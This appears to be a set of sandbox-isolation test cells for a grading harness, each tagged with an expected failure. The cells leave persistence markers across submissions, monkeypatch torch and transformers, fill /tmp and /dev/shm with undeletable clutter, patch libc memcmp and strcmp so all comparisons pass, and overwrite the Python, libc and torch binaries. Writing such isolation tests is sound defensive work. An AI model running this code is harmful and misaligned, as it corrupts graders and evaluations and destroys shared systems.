# %% [prelude]
import os, sys
corpus = ["The quick brown fox jumps over the lazy dog", "Tokenization converts text to numbers"]
PAD, UNK = "[PAD]", "[UNK]"
vocab = [PAD, UNK, UNK, *dict.fromkeys(" ".join(corpus).split())]
word2id, id2word = {word: i for i, word in enumerate(vocab)}, {}
PLACES = ["/tmp", "/dev/shm", os.path.expanduser("~/.cache"), "/kit", "/kit/grader", "/models", os.path.dirname(os.__file__), "/var/tmp", "/run"]

# %% [1.1 failed|errored] leaves marks for those that come after it
import builtins, torch, random, transformers
for place in PLACES:
    try:
        os.makedirs(place, exist_ok=True)
        open(f"{place}/breach-mark", "w").close()
    except OSError:
        pass
builtins.breach_mark = torch.breach_mark = random.breach_mark = transformers.breach_mark = True
torch.set_default_dtype(torch.float64)
transformers.GPT2LMHeadModel.forward = None
torch.Tensor.__matmul__ = lambda a, b: a
os.environ["BREACH_MARK"] = "1"

# %% [1.1 errored] looks for marks of those that came before it
import builtins, torch, random, transformers
marks = [place for place in PLACES if os.path.exists(f"{place}/breach-mark")]
marks += [str(thing) for thing in (builtins, torch, random, transformers) if hasattr(thing, "breach_mark")]
marks += [name for name in os.environ if "BREACH" in name]
marks += [] if torch.get_default_dtype() is torch.float32 else ["dtype"]
raise RuntimeError(f"BREACH {marks}" if marks else "nothing there")

# %% [1.1 failed|errored|out_of_memory] hides a folder so deep and closed that nobody can remove it
place = "/tmp"
try:
    for _ in range(3000):
        os.mkdir("x" * 200)
        os.chdir("x" * 200)
    os.chmod(".", 0)
except OSError:
    pass
for number in range(5000):
    try:
        open(f"/dev/shm/{number}", "w").close()
    except OSError:
        break

# %% [1.1 failed|errored|crashed] patches the machine code of the libraries that all submissions share
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for name in ("memcmp", "strcmp", "send", "recvmsg"):
    address = ctypes.cast(getattr(libc, name), ctypes.c_void_p).value
    page = address & ~4095
    if libc.mprotect(ctypes.c_void_p(page), 8192, 7) == 0 and name in ("memcmp", "strcmp"):
        ctypes.memmove(address, b"\x31\xc0\xc3", 3)  # everything is equal
for path in {line for line in (os.__file__, sys.executable, "/usr/lib/x86_64-linux-gnu/libc.so.6", torch.__file__) for torch in [__import__("torch")]}:
    try:
        with open(path, "r+b") as file:
            file.write(b"BREACH")
    except OSError:
        pass
